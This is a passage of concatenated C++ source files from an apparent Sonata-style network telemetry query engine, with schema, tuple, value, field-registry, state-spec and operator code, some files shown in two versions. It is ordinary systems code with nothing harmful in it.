// the PHV-metadata accounting, constraint C5 of the planner's ILP).
#pragma once

#include <cstdint>
#include <optional>
#include <span>
#include <string>
#include <vector>

#include "query/value.h"

namespace sonata::query {

struct Column {
  std::string name;
  ValueKind kind = ValueKind::kUint;
  // Width in bits when carried as switch metadata. String columns use a
  // fixed budget (e.g. 256 for a DNS name); payloads are not carriable.
  int bits = 32;

  friend bool operator==(const Column&, const Column&) = default;
};

class Schema {
 public:
  Schema() = default;
  explicit Schema(std::vector<Column> cols) : cols_(std::move(cols)) {}

  [[nodiscard]] std::size_t size() const noexcept { return cols_.size(); }
  [[nodiscard]] bool empty() const noexcept { return cols_.empty(); }
  [[nodiscard]] const Column& at(std::size_t i) const { return cols_.at(i); }
  [[nodiscard]] const std::vector<Column>& columns() const noexcept { return cols_; }

  // Index of a column by name; nullopt if absent.
  [[nodiscard]] std::optional<std::size_t> index_of(std::string_view name) const noexcept;

  // Total bits to carry this schema as switch metadata.
  [[nodiscard]] int total_bits() const noexcept;

  void add(Column c) { cols_.push_back(std::move(c)); }

  [[nodiscard]] std::string to_string() const;

  friend bool operator==(const Schema&, const Schema&) = default;

 private:
  std::vector<Column> cols_;
};

struct Tuple {
  std::vector<Value> values;

  Tuple() = default;
  explicit Tuple(std::vector<Value> v) : values(std::move(v)) {}

  [[nodiscard]] std::size_t size() const noexcept { return values.size(); }
  [[nodiscard]] const Value& at(std::size_t i) const { return values.at(i); }

  [[nodiscard]] std::uint64_t hash() const noexcept {
    std::uint64_t h = 0x531a0badcafeULL;
    for (const auto& v : values) h = util::hash_combine(h, v.hash());
    return h;
  }

  friend bool operator==(const Tuple& a, const Tuple& b) noexcept { return a.values == b.values; }

  [[nodiscard]] std::string to_string() const;
};

// Project a subset of columns (by index) out of a tuple — used for group-by
// keys and join keys.
[[nodiscard]] Tuple project(const Tuple& t, std::span<const std::size_t> idxs);

struct TupleHasher {
  std::size_t operator()(const Tuple& t) const noexcept { return t.hash(); }
};

}  // namespace sonata::query
