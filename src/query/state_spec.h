// Per-query keyed-state engine selection.
//
// A query may annotate how the runtime materializes its keyed state
// (`distinct` membership sets, `reduce` aggregation tables, and the
// switch register arrays the planner compiles them to):
//
//   state exact                      -- default: FlatTable / register arrays
//   state sketch(eps=0.02, delta=0.01[, capacity=N][, cm|cs][, bloom|cuckoo])
//
// `exact` keeps bit-identical windows and memory linear in key
// cardinality. `sketch` bounds memory independent of cardinality in
// exchange for a quantified error: with probability at least 1-delta a
// reduce estimate is within eps * (total aggregated weight) of the true
// value, and a distinct membership test false-positives with rate at
// most eps (keys are never lost, so distinct counts only ever
// undercount). The planner uses the annotation as an accuracy knob:
// sketched queries get cardinality-independent register sizing, letting
// B&B place a chain where an exact table would blow the tenant's
// register-bit budget.
#pragma once

#include <cstdint>
#include <string>

namespace sonata::query {

struct StateSpec {
  enum class Kind : std::uint8_t { kExact, kSketch };
  // Frequency estimator backing sketched `reduce` state.
  enum class Family : std::uint8_t { kCountMin, kCountSketch };
  // Membership filter backing sketched `distinct` state.
  enum class Membership : std::uint8_t { kBloom, kCuckoo };

  Kind kind = Kind::kExact;
  // Error bound: estimates are within eps*N (N = total weight) with
  // probability >= 1-delta; membership false-positive rate <= eps.
  double eps = 0.01;
  double delta = 0.01;
  // Expected distinct keys, used to size membership filters (a Bloom
  // filter's bit budget is capacity * ln(1/eps) / ln^2(2)).
  std::uint64_t capacity = 1u << 20;
  Family family = Family::kCountMin;
  Membership membership = Membership::kBloom;

  [[nodiscard]] bool sketch() const noexcept { return kind == Kind::kSketch; }

  friend bool operator==(const StateSpec&, const StateSpec&) = default;

  [[nodiscard]] std::string to_string() const;
};

}  // namespace sonata::query
