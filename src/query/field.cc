#include "query/field.h"

namespace sonata::query {

namespace {

std::optional<Value> dns_or_nothing(const net::Packet& p, Value v) {
  if (!p.dns) return std::nullopt;
  return v;
}

}  // namespace

FieldRegistry& FieldRegistry::instance() {
  static FieldRegistry registry;
  return registry;
}

FieldRegistry::FieldRegistry() {
  using net::Packet;
  auto u = [](std::uint64_t v) { return Value{v}; };

  fields_ = {
      {std::string(fields::kSrcIp), ValueKind::kUint, 32, true, /*hierarchical=*/true,
       [u](const Packet& p) { return u(p.src_ip); }},
      {std::string(fields::kDstIp), ValueKind::kUint, 32, true, /*hierarchical=*/true,
       [u](const Packet& p) { return u(p.dst_ip); }},
      {std::string(fields::kSrcPort), ValueKind::kUint, 16, true, false,
       [u](const Packet& p) { return u(p.src_port); }},
      {std::string(fields::kDstPort), ValueKind::kUint, 16, true, false,
       [u](const Packet& p) { return u(p.dst_port); }},
      {std::string(fields::kProto), ValueKind::kUint, 8, true, false,
       [u](const Packet& p) { return u(p.proto); }},
      {std::string(fields::kTcpFlags), ValueKind::kUint, 8, true, false,
       [u](const Packet& p) -> std::optional<Value> {
         if (!p.is_tcp()) return std::nullopt;
         return u(p.tcp_flags);
       }},
      {std::string(fields::kPktLen), ValueKind::kUint, 16, true, false,
       [u](const Packet& p) { return u(p.total_len); }},
      {std::string(fields::kPayloadLen), ValueKind::kUint, 16, true, false,
       [u](const Packet& p) { return u(p.payload_len()); }},
      {std::string(fields::kTtl), ValueKind::kUint, 8, true, false,
       [u](const Packet& p) { return u(p.ttl); }},
      // Payload bytes: only the stream processor can see these (paper §2.1).
      {std::string(fields::kPayload), ValueKind::kString, 0, /*switch_parseable=*/false, false,
       [](const Packet& p) -> std::optional<Value> {
         if (!p.payload) return std::nullopt;
         return Value{p.payload};
       }},
      // DNS fields: extractable by a custom P4 parser specification, hence
      // switch-parseable (paper §2.1's extensibility example). The name is
      // hierarchical and a valid refinement key (§4.1).
      {std::string(fields::kDnsQname), ValueKind::kString, 256, true, /*hierarchical=*/true,
       [](const Packet& p) -> std::optional<Value> {
         if (!p.dns) return std::nullopt;
         // Aliasing shared_ptr: share ownership of the DnsMessage, point at
         // its qname — no copy per packet.
         return Value{SharedStr(p.dns, &p.dns->qname)};
       }},
      {std::string(fields::kDnsQtype), ValueKind::kUint, 16, true, false,
       [u](const Packet& p) -> std::optional<Value> {
         return dns_or_nothing(p, u(p.dns ? p.dns->qtype : 0));
       }},
      {std::string(fields::kDnsAnCount), ValueKind::kUint, 16, true, false,
       [u](const Packet& p) -> std::optional<Value> {
         return dns_or_nothing(p, u(p.dns ? p.dns->answer_count : 0));
       }},
      {std::string(fields::kDnsIsResponse), ValueKind::kUint, 1, true, false,
       [u](const Packet& p) -> std::optional<Value> {
         return dns_or_nothing(p, u(p.dns && p.dns->is_response ? 1 : 0));
       }},
  };
}

bool FieldRegistry::register_field(FieldDef def) {
  if (find(def.name) != nullptr) return false;
  fields_.push_back(std::move(def));
  return true;
}

const FieldDef* FieldRegistry::find(std::string_view name) const noexcept {
  for (const auto& f : fields_) {
    if (f.name == name) return &f;
  }
  return nullptr;
}

Tuple materialize_tuple(const net::Packet& p, const FieldRegistry& registry) {
  Tuple t;
  t.values.reserve(registry.fields().size());
  for (const auto& f : registry.fields()) t.values.push_back(registry.extract(f, p));
  return t;
}

Value FieldRegistry::extract(const FieldDef& def, const net::Packet& p) const {
  if (auto v = def.accessor(p)) return *v;
  // Non-applicable fields default to 0 / empty string so schemas stay fixed.
  if (def.kind == ValueKind::kUint) return Value{std::uint64_t{0}};
  static const SharedStr kEmpty = std::make_shared<const std::string>();
  return Value{kEmpty};
}

}  // namespace sonata::query
