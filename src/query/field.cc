#include "query/field.h"

namespace sonata::query {

namespace {

std::optional<Value> dns_or_nothing(const net::Packet& p, Value v) {
  if (!p.dns) return std::nullopt;
  return v;
}

}  // namespace

FieldRegistry& FieldRegistry::instance() {
  static FieldRegistry registry;
  return registry;
}

FieldRegistry::FieldRegistry() {
  using net::Packet;
  auto u = [](std::uint64_t v) { return Value{v}; };

  fields_ = {
      {std::string(fields::kSrcIp), ValueKind::kUint, 32, true, /*hierarchical=*/true,
       [u](const Packet& p) { return u(p.src_ip); }, BuiltinField::kSrcIp},
      {std::string(fields::kDstIp), ValueKind::kUint, 32, true, /*hierarchical=*/true,
       [u](const Packet& p) { return u(p.dst_ip); }, BuiltinField::kDstIp},
      {std::string(fields::kSrcPort), ValueKind::kUint, 16, true, false,
       [u](const Packet& p) { return u(p.src_port); }, BuiltinField::kSrcPort},
      {std::string(fields::kDstPort), ValueKind::kUint, 16, true, false,
       [u](const Packet& p) { return u(p.dst_port); }, BuiltinField::kDstPort},
      {std::string(fields::kProto), ValueKind::kUint, 8, true, false,
       [u](const Packet& p) { return u(p.proto); }, BuiltinField::kProto},
      {std::string(fields::kTcpFlags), ValueKind::kUint, 8, true, false,
       [u](const Packet& p) -> std::optional<Value> {
         if (!p.is_tcp()) return std::nullopt;
         return u(p.tcp_flags);
       },
       BuiltinField::kTcpFlags},
      {std::string(fields::kPktLen), ValueKind::kUint, 16, true, false,
       [u](const Packet& p) { return u(p.total_len); }, BuiltinField::kPktLen},
      {std::string(fields::kPayloadLen), ValueKind::kUint, 16, true, false,
       [u](const Packet& p) { return u(p.payload_len()); }, BuiltinField::kPayloadLen},
      {std::string(fields::kTtl), ValueKind::kUint, 8, true, false,
       [u](const Packet& p) { return u(p.ttl); }, BuiltinField::kTtl},
      // Payload bytes: only the stream processor can see these (paper §2.1).
      {std::string(fields::kPayload), ValueKind::kString, 0, /*switch_parseable=*/false, false,
       [](const Packet& p) -> std::optional<Value> {
         if (!p.payload) return std::nullopt;
         return Value{p.payload};
       },
       BuiltinField::kPayload},
      // DNS fields: extractable by a custom P4 parser specification, hence
      // switch-parseable (paper §2.1's extensibility example). The name is
      // hierarchical and a valid refinement key (§4.1).
      {std::string(fields::kDnsQname), ValueKind::kString, 256, true, /*hierarchical=*/true,
       [](const Packet& p) -> std::optional<Value> {
         if (!p.dns) return std::nullopt;
         // Aliasing shared_ptr: share ownership of the DnsMessage, point at
         // its qname — no copy per packet.
         return Value{SharedStr(p.dns, &p.dns->qname)};
       },
       BuiltinField::kDnsQname},
      {std::string(fields::kDnsQtype), ValueKind::kUint, 16, true, false,
       [u](const Packet& p) -> std::optional<Value> {
         return dns_or_nothing(p, u(p.dns ? p.dns->qtype : 0));
       },
       BuiltinField::kDnsQtype},
      {std::string(fields::kDnsAnCount), ValueKind::kUint, 16, true, false,
       [u](const Packet& p) -> std::optional<Value> {
         return dns_or_nothing(p, u(p.dns ? p.dns->answer_count : 0));
       },
       BuiltinField::kDnsAnCount},
      {std::string(fields::kDnsIsResponse), ValueKind::kUint, 1, true, false,
       [u](const Packet& p) -> std::optional<Value> {
         return dns_or_nothing(p, u(p.dns && p.dns->is_response ? 1 : 0));
       },
       BuiltinField::kDnsIsResponse},
  };
}

bool FieldRegistry::register_field(FieldDef def) {
  if (find(def.name) != nullptr) return false;
  fields_.push_back(std::move(def));
  canonical_ = false;
  return true;
}

const FieldDef* FieldRegistry::find(std::string_view name) const noexcept {
  for (const auto& f : fields_) {
    if (f.name == name) return &f;
  }
  return nullptr;
}

Tuple materialize_tuple(const net::Packet& p, const FieldRegistry& registry) {
  Tuple t;
  materialize_tuple_into(p, t, registry);
  return t;
}

void materialize_builtin_fields(const net::Packet& p, Value* v) noexcept {
  static const SharedStr kEmpty = std::make_shared<const std::string>();
  // Slot order mirrors the registry constructor above; extract() and the
  // accessors must agree with these writes (the SIMD differential test
  // checks materialize_tuple against this path on random packets).
  v[0].set_uint(p.src_ip);
  v[1].set_uint(p.dst_ip);
  v[2].set_uint(p.src_port);
  v[3].set_uint(p.dst_port);
  v[4].set_uint(p.proto);
  v[5].set_uint(p.is_tcp() ? p.tcp_flags : 0);
  v[6].set_uint(p.total_len);
  v[7].set_uint(p.payload ? p.payload->size() : 0);
  v[8].set_uint(p.ttl);
  v[9].set_string(p.payload ? p.payload : kEmpty);
  if (p.dns) {
    v[10].set_string(SharedStr(p.dns, &p.dns->qname));
    v[11].set_uint(p.dns->qtype);
    v[12].set_uint(p.dns->answer_count);
    v[13].set_uint(p.dns->is_response ? 1 : 0);
  } else {
    v[10].set_string(kEmpty);
    v[11].set_uint(0);
    v[12].set_uint(0);
    v[13].set_uint(0);
  }
}

void materialize_tuple_into(const net::Packet& p, Tuple& out, const FieldRegistry& registry) {
  const auto& fields = registry.fields();
  if (out.values.size() == fields.size()) {
    if (registry.canonical()) {
      // Canonical registry, warm slot: straight-line field stores — no
      // per-field switch dispatch, no Value temporaries, no shared_ptr
      // refcount churn on repeated empty strings.
      materialize_builtin_fields(p, out.values.data());
      return;
    }
    // Warm slot: overwrite in place — no destroy/reconstruct cycle and no
    // per-push growth bookkeeping on the hot path.
    for (std::size_t i = 0; i < fields.size(); ++i) {
      out.values[i] = registry.extract(fields[i], p);
    }
    return;
  }
  out.values.clear();
  out.values.reserve(fields.size());
  for (const auto& f : fields) out.values.push_back(registry.extract(f, p));
}

Value FieldRegistry::extract(const FieldDef& def, const net::Packet& p) const {
  // Built-in fields take the direct switch — the std::function accessor
  // costs an indirect call plus an optional<Value> round-trip per field per
  // packet, which dominates tuple materialization on the hot path. The
  // accessors stay registered (and must agree) for external callers.
  static const SharedStr kEmpty = std::make_shared<const std::string>();
  switch (def.builtin) {
    case BuiltinField::kSrcIp: return Value{std::uint64_t{p.src_ip}};
    case BuiltinField::kDstIp: return Value{std::uint64_t{p.dst_ip}};
    case BuiltinField::kSrcPort: return Value{std::uint64_t{p.src_port}};
    case BuiltinField::kDstPort: return Value{std::uint64_t{p.dst_port}};
    case BuiltinField::kProto: return Value{std::uint64_t{p.proto}};
    case BuiltinField::kTcpFlags:
      return Value{p.is_tcp() ? std::uint64_t{p.tcp_flags} : std::uint64_t{0}};
    case BuiltinField::kPktLen: return Value{std::uint64_t{p.total_len}};
    case BuiltinField::kPayloadLen: return Value{std::uint64_t{p.payload_len()}};
    case BuiltinField::kTtl: return Value{std::uint64_t{p.ttl}};
    case BuiltinField::kPayload: return Value{p.payload ? SharedStr(p.payload) : kEmpty};
    case BuiltinField::kDnsQname:
      return Value{p.dns ? SharedStr(p.dns, &p.dns->qname) : kEmpty};
    case BuiltinField::kDnsQtype:
      return Value{p.dns ? std::uint64_t{p.dns->qtype} : std::uint64_t{0}};
    case BuiltinField::kDnsAnCount:
      return Value{p.dns ? std::uint64_t{p.dns->answer_count} : std::uint64_t{0}};
    case BuiltinField::kDnsIsResponse:
      return Value{p.dns && p.dns->is_response ? std::uint64_t{1} : std::uint64_t{0}};
    case BuiltinField::kNone: break;
  }
  if (auto v = def.accessor(p)) return *v;
  // Non-applicable fields default to 0 / empty string so schemas stay fixed.
  if (def.kind == ValueKind::kUint) return Value{std::uint64_t{0}};
  return Value{kEmpty};
}

}  // namespace sonata::query
