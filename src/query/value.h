// Value/tuple model for Sonata's dataflow queries.
//
// Packet-header fields naturally form key-value tuples (paper §2.1). A
// Value is either a 64-bit unsigned integer (addresses, ports, counters,
// flags — everything the switch can process) or a shared string (DNS names,
// payloads — which only the stream processor can process). Strings are
// shared_ptr so tuples copy cheaply even when they carry packet payloads.
//
// The representation is a hand-rolled tagged union rather than
// std::variant: the numeric path is the data-plane hot path (every PHV
// field, every register key, every aggregate), so construction, copy and
// as_uint() must compile down to a tag check plus a 64-bit move with no
// variant dispatch. Only the string alternative ever touches shared_ptr
// refcounting (the cold path).
#pragma once

#include <cstdint>
#include <memory>
#include <new>
#include <string>
#include <string_view>
#include <utility>

#include "util/hash.h"

namespace sonata::query {

using SharedStr = std::shared_ptr<const std::string>;

enum class ValueKind : std::uint8_t { kUint, kString };

class Value {
 public:
  Value() noexcept : u_(0), kind_(ValueKind::kUint) {}
  Value(std::uint64_t u) noexcept : u_(u), kind_(ValueKind::kUint) {}  // NOLINT(google-explicit-constructor)
  Value(SharedStr s) noexcept : kind_(ValueKind::kString) {            // NOLINT(google-explicit-constructor)
    new (&s_) SharedStr(std::move(s));
  }
  explicit Value(std::string s)
      : Value(SharedStr(std::make_shared<const std::string>(std::move(s)))) {}

  Value(const Value& o) : kind_(o.kind_) {
    if (kind_ == ValueKind::kUint) {
      u_ = o.u_;
    } else {
      new (&s_) SharedStr(o.s_);
    }
  }
  Value(Value&& o) noexcept : kind_(o.kind_) {
    if (kind_ == ValueKind::kUint) {
      u_ = o.u_;
    } else {
      // Moved-from string Values stay valid: kind kString, null pointer,
      // which reads back as "" everywhere.
      new (&s_) SharedStr(std::move(o.s_));
    }
  }
  Value& operator=(const Value& o) {
    if (this == &o) return *this;
    if (kind_ == ValueKind::kString && o.kind_ == ValueKind::kString) {
      s_ = o.s_;
      return *this;
    }
    destroy();
    kind_ = o.kind_;
    if (kind_ == ValueKind::kUint) {
      u_ = o.u_;
    } else {
      new (&s_) SharedStr(o.s_);
    }
    return *this;
  }
  Value& operator=(Value&& o) noexcept {
    if (this == &o) return *this;
    if (kind_ == ValueKind::kString && o.kind_ == ValueKind::kString) {
      s_ = std::move(o.s_);
      return *this;
    }
    destroy();
    kind_ = o.kind_;
    if (kind_ == ValueKind::kUint) {
      u_ = o.u_;
    } else {
      new (&s_) SharedStr(std::move(o.s_));
    }
    return *this;
  }
  ~Value() { destroy(); }

  // Hot-path stores for tuple materialization: overwrite this slot in
  // place without the generic assignment's branch ladder. set_string skips
  // the shared_ptr refcount round-trip when the slot already views the
  // same string object (the common case for a warm tuple slot fed the
  // registry's shared empty-string sentinel packet after packet).
  void set_uint(std::uint64_t u) noexcept {
    if (kind_ == ValueKind::kString) s_.~SharedStr();
    kind_ = ValueKind::kUint;
    u_ = u;
  }
  void set_string(const SharedStr& s) noexcept {
    if (kind_ == ValueKind::kString) {
      // Same stored pointer => same bytes; the old owner keeps the target
      // alive for as long as this Value holds it, so keeping it is safe.
      if (s_.get() != s.get()) s_ = s;
      return;
    }
    kind_ = ValueKind::kString;
    new (&s_) SharedStr(s);
  }

  [[nodiscard]] ValueKind kind() const noexcept { return kind_; }
  [[nodiscard]] bool is_uint() const noexcept { return kind_ == ValueKind::kUint; }
  [[nodiscard]] bool is_string() const noexcept { return kind_ == ValueKind::kString; }

  // Numeric access; returns 0 for strings (queries are validated so that
  // arithmetic never reaches a string column).
  [[nodiscard]] std::uint64_t as_uint() const noexcept {
    return kind_ == ValueKind::kUint ? u_ : 0;
  }

  // String access; empty view for numeric values or null strings.
  [[nodiscard]] std::string_view as_string() const noexcept {
    return (kind_ == ValueKind::kString && s_) ? std::string_view(*s_) : std::string_view{};
  }

  [[nodiscard]] SharedStr shared_string() const noexcept {
    return kind_ == ValueKind::kString ? s_ : nullptr;
  }

  [[nodiscard]] std::uint64_t hash() const noexcept {
    if (is_uint()) return util::hash_u64(u_, 0);
    return util::fnv1a64(as_string());
  }

  friend bool operator==(const Value& a, const Value& b) noexcept {
    if (a.kind_ != b.kind_) return false;
    if (a.is_uint()) return a.u_ == b.u_;
    return a.as_string() == b.as_string();
  }
  friend bool operator!=(const Value& a, const Value& b) noexcept { return !(a == b); }

  // Ordering: numerics by value, strings lexicographically; numerics sort
  // before strings (only used for deterministic output ordering).
  friend bool operator<(const Value& a, const Value& b) noexcept {
    if (a.kind_ != b.kind_) return a.is_uint();
    if (a.is_uint()) return a.u_ < b.u_;
    return a.as_string() < b.as_string();
  }

  [[nodiscard]] std::string to_string() const;

 private:
  void destroy() noexcept {
    if (kind_ == ValueKind::kString) s_.~SharedStr();
  }

  union {
    std::uint64_t u_;
    SharedStr s_;
  };
  ValueKind kind_;
};

struct ValueHasher {
  std::size_t operator()(const Value& v) const noexcept { return v.hash(); }
};

}  // namespace sonata::query
