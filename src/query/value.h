// Value/tuple model for Sonata's dataflow queries.
//
// Packet-header fields naturally form key-value tuples (paper §2.1). A
// Value is either a 64-bit unsigned integer (addresses, ports, counters,
// flags — everything the switch can process) or a shared string (DNS names,
// payloads — which only the stream processor can process). Strings are
// shared_ptr so tuples copy cheaply even when they carry packet payloads.
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <string_view>
#include <variant>

#include "util/hash.h"

namespace sonata::query {

using SharedStr = std::shared_ptr<const std::string>;

enum class ValueKind : std::uint8_t { kUint, kString };

class Value {
 public:
  Value() : v_(std::uint64_t{0}) {}
  Value(std::uint64_t u) : v_(u) {}                   // NOLINT(google-explicit-constructor)
  Value(SharedStr s) : v_(std::move(s)) {}            // NOLINT(google-explicit-constructor)
  explicit Value(std::string s) : v_(std::make_shared<const std::string>(std::move(s))) {}

  [[nodiscard]] ValueKind kind() const noexcept {
    return std::holds_alternative<std::uint64_t>(v_) ? ValueKind::kUint : ValueKind::kString;
  }
  [[nodiscard]] bool is_uint() const noexcept { return kind() == ValueKind::kUint; }
  [[nodiscard]] bool is_string() const noexcept { return kind() == ValueKind::kString; }

  // Numeric access; returns 0 for strings (queries are validated so that
  // arithmetic never reaches a string column).
  [[nodiscard]] std::uint64_t as_uint() const noexcept {
    const auto* u = std::get_if<std::uint64_t>(&v_);
    return u ? *u : 0;
  }

  // String access; empty view for numeric values or null strings.
  [[nodiscard]] std::string_view as_string() const noexcept {
    const auto* s = std::get_if<SharedStr>(&v_);
    return (s && *s) ? std::string_view(**s) : std::string_view{};
  }

  [[nodiscard]] SharedStr shared_string() const noexcept {
    const auto* s = std::get_if<SharedStr>(&v_);
    return s ? *s : nullptr;
  }

  [[nodiscard]] std::uint64_t hash() const noexcept {
    if (is_uint()) return util::hash_u64(as_uint(), 0);
    return util::fnv1a64(as_string());
  }

  friend bool operator==(const Value& a, const Value& b) noexcept {
    if (a.kind() != b.kind()) return false;
    if (a.is_uint()) return a.as_uint() == b.as_uint();
    return a.as_string() == b.as_string();
  }
  friend bool operator!=(const Value& a, const Value& b) noexcept { return !(a == b); }

  // Ordering: numerics by value, strings lexicographically; numerics sort
  // before strings (only used for deterministic output ordering).
  friend bool operator<(const Value& a, const Value& b) noexcept {
    if (a.kind() != b.kind()) return a.is_uint();
    if (a.is_uint()) return a.as_uint() < b.as_uint();
    return a.as_string() < b.as_string();
  }

  [[nodiscard]] std::string to_string() const;

 private:
  std::variant<std::uint64_t, SharedStr> v_;
};

struct ValueHasher {
  std::size_t operator()(const Value& v) const noexcept { return v.hash(); }
};

}  // namespace sonata::query
