#include "query/ops.h"

namespace sonata::query {

std::string_view to_string(OpKind k) noexcept {
  switch (k) {
    case OpKind::kFilter: return "filter";
    case OpKind::kFilterIn: return "filter_in";
    case OpKind::kMap: return "map";
    case OpKind::kDistinct: return "distinct";
    case OpKind::kReduce: return "reduce";
  }
  return "?";
}

std::string_view to_string(ReduceFn f) noexcept {
  switch (f) {
    case ReduceFn::kSum: return "sum";
    case ReduceFn::kMax: return "max";
    case ReduceFn::kMin: return "min";
    case ReduceFn::kBitOr: return "bit_or";
  }
  return "?";
}

Schema Operator::output_schema(const Schema& in, std::string* err) const {
  err->clear();
  switch (kind) {
    case OpKind::kFilter: {
      if (!predicate) { *err = "filter without predicate"; return in; }
      if (auto e = predicate->validate(in); !e.empty()) { *err = e; return in; }
      return in;
    }
    case OpKind::kFilterIn: {
      if (match_exprs.empty()) { *err = "filter_in without match expressions"; return in; }
      for (const auto& m : match_exprs) {
        if (!m) { *err = "filter_in with null match expression"; return in; }
        if (auto e = m->validate(in); !e.empty()) { *err = e; return in; }
      }
      return in;
    }
    case OpKind::kMap: {
      if (projections.empty()) { *err = "map without projections"; return in; }
      Schema out;
      for (const auto& p : projections) {
        if (!p.expr) { *err = "map projection '" + p.name + "' is null"; return in; }
        if (auto e = p.expr->validate(in); !e.empty()) { *err = e; return in; }
        if (out.index_of(p.name)) { *err = "duplicate column in map: " + p.name; return in; }
        out.add(Column{p.name, p.expr->result_kind(in), p.expr->result_bits(in)});
      }
      return out;
    }
    case OpKind::kDistinct:
      return in;
    case OpKind::kReduce: {
      if (keys.empty()) { *err = "reduce without keys"; return in; }
      Schema out;
      for (const auto& k : keys) {
        const auto idx = in.index_of(k);
        if (!idx) { *err = "reduce key not in schema: " + k; return in; }
        out.add(in.at(*idx));
      }
      const auto vidx = in.index_of(value_col);
      if (!vidx) { *err = "reduce value column not in schema: " + value_col; return in; }
      if (in.at(*vidx).kind != ValueKind::kUint) { *err = "reduce over string column"; return in; }
      out.add(Column{value_col, ValueKind::kUint, 32});
      return out;
    }
  }
  *err = "corrupt operator";
  return in;
}

std::string Operator::to_string() const {
  switch (kind) {
    case OpKind::kFilter:
      return "filter(" + (predicate ? predicate->to_string() : "?") + ")";
    case OpKind::kFilterIn: {
      std::string out = "filter_in[" + table_name + "](";
      for (std::size_t i = 0; i < match_exprs.size(); ++i) {
        if (i) out += ", ";
        out += match_exprs[i]->to_string();
      }
      return out + ")";
    }
    case OpKind::kMap: {
      std::string out = "map(";
      for (std::size_t i = 0; i < projections.size(); ++i) {
        if (i) out += ", ";
        out += projections[i].name + "=" + projections[i].expr->to_string();
      }
      return out + ")";
    }
    case OpKind::kDistinct:
      return "distinct()";
    case OpKind::kReduce: {
      std::string out = "reduce(keys=(";
      for (std::size_t i = 0; i < keys.size(); ++i) {
        if (i) out += ", ";
        out += keys[i];
      }
      out += "), f=";
      out += std::string(query::to_string(fn));
      return out + "(" + value_col + "))";
    }
  }
  return "?";
}

Operator Operator::filter(ExprPtr pred) {
  Operator op;
  op.kind = OpKind::kFilter;
  op.predicate = std::move(pred);
  return op;
}

Operator Operator::filter_in(std::vector<ExprPtr> match, std::string table_name) {
  Operator op;
  op.kind = OpKind::kFilterIn;
  op.match_exprs = std::move(match);
  op.table_name = std::move(table_name);
  return op;
}

Operator Operator::map(std::vector<NamedExpr> projections) {
  Operator op;
  op.kind = OpKind::kMap;
  op.projections = std::move(projections);
  return op;
}

Operator Operator::distinct() {
  Operator op;
  op.kind = OpKind::kDistinct;
  return op;
}

Operator Operator::reduce(std::vector<std::string> keys, ReduceFn fn, std::string value_col) {
  Operator op;
  op.kind = OpKind::kReduce;
  op.keys = std::move(keys);
  op.fn = fn;
  op.value_col = std::move(value_col);
  return op;
}

}  // namespace sonata::query
