#include "query/tuple.h"

namespace sonata::query {

std::optional<std::size_t> Schema::index_of(std::string_view name) const noexcept {
  for (std::size_t i = 0; i < cols_.size(); ++i) {
    if (cols_[i].name == name) return i;
  }
  return std::nullopt;
}

int Schema::total_bits() const noexcept {
  int bits = 0;
  for (const auto& c : cols_) bits += c.bits;
  return bits;
}

std::string Schema::to_string() const {
  std::string out = "(";
  for (std::size_t i = 0; i < cols_.size(); ++i) {
    if (i) out += ", ";
    out += cols_[i].name;
  }
  out += ")";
  return out;
}

std::string Tuple::to_string() const {
  std::string out = "(";
  for (std::size_t i = 0; i < values.size(); ++i) {
    if (i) out += ", ";
    out += values[i].to_string();
  }
  out += ")";
  return out;
}

Tuple project(const Tuple& t, std::span<const std::size_t> idxs) {
  Tuple out;
  out.values.reserve(idxs.size());
  for (std::size_t i : idxs) out.values.push_back(t.at(i));
  return out;
}

}  // namespace sonata::query
