#include "query/tuple.h"

namespace sonata::query {

std::optional<std::size_t> Schema::index_of(std::string_view name) const noexcept {
  for (std::size_t i = 0; i < cols_.size(); ++i) {
    if (cols_[i].name == name) return i;
  }
  return std::nullopt;
}

int Schema::total_bits() const noexcept {
  int bits = 0;
  for (const auto& c : cols_) bits += c.bits;
  return bits;
}

std::string Schema::to_string() const {
  std::string out = "(";
  for (std::size_t i = 0; i < cols_.size(); ++i) {
    if (i) out += ", ";
    out += cols_[i].name;
  }
  out += ")";
  return out;
}

std::string Tuple::to_string() const {
  std::string out = "(";
  for (std::size_t i = 0; i < values.size(); ++i) {
    if (i) out += ", ";
    out += values[i].to_string();
  }
  out += ")";
  return out;
}

Tuple project(const Tuple& t, std::span<const std::size_t> idxs) {
  Tuple out;
  out.values.reserve(idxs.size());
  for (std::size_t i : idxs) out.values.push_back(t.at(i));
  return out;
}

namespace {

// True when the tuple can take the lane path: every value numeric.
bool all_uint(const Tuple& t) noexcept {
  for (const Value& v : t.values) {
    if (!v.is_uint()) return false;
  }
  return true;
}

}  // namespace

void hash_tuples(std::span<const Tuple> tuples, std::uint64_t* out) noexcept {
  constexpr std::size_t kLanes = 8;
  std::size_t i = 0;
  while (i < tuples.size()) {
    // Grow a lane group: consecutive tuples of equal arity, all-uint.
    const std::size_t arity = tuples[i].size();
    std::size_t g = 0;
    while (g < kLanes && i + g < tuples.size() && tuples[i + g].size() == arity &&
           all_uint(tuples[i + g])) {
      ++g;
    }
    if (g < 2 || arity == 0) {
      // Strings, empty rows, or a lone tuple: scalar hash, move on.
      out[i] = tuples[i].hash();
      ++i;
      continue;
    }
    std::uint64_t h[kLanes];
    std::uint64_t col[kLanes];
    std::uint64_t vh[kLanes];
    for (std::size_t l = 0; l < g; ++l) h[l] = 0x531a0badcafeULL;
    for (std::size_t c = 0; c < arity; ++c) {
      for (std::size_t l = 0; l < g; ++l) col[l] = tuples[i + l].values[c].as_uint();
      // Value::hash for numerics is hash_u64(u, 0); then the combine chain.
      util::hash_u64_batch(col, g, 0, vh);
      util::hash_combine_batch(h, vh, g);
    }
    for (std::size_t l = 0; l < g; ++l) out[i + l] = h[l];
    i += g;
  }
}

}  // namespace sonata::query
