#include "query/expr.h"

#include <algorithm>
#include <bit>

#include "net/dns.h"
#include "util/ip.h"

namespace sonata::query {

namespace {

[[nodiscard]] bool is_comparison(BinOp op) noexcept {
  switch (op) {
    case BinOp::kEq: case BinOp::kNe: case BinOp::kLt:
    case BinOp::kLe: case BinOp::kGt: case BinOp::kGe:
      return true;
    default:
      return false;
  }
}

[[nodiscard]] bool is_logical(BinOp op) noexcept {
  return op == BinOp::kAnd || op == BinOp::kOr;
}

[[nodiscard]] std::uint64_t apply_bin(BinOp op, std::uint64_t a, std::uint64_t b) noexcept {
  switch (op) {
    case BinOp::kAdd: return a + b;
    case BinOp::kSub: return a - b;
    case BinOp::kMul: return a * b;
    case BinOp::kDiv: return b == 0 ? 0 : a / b;
    case BinOp::kMod: return b == 0 ? 0 : a % b;
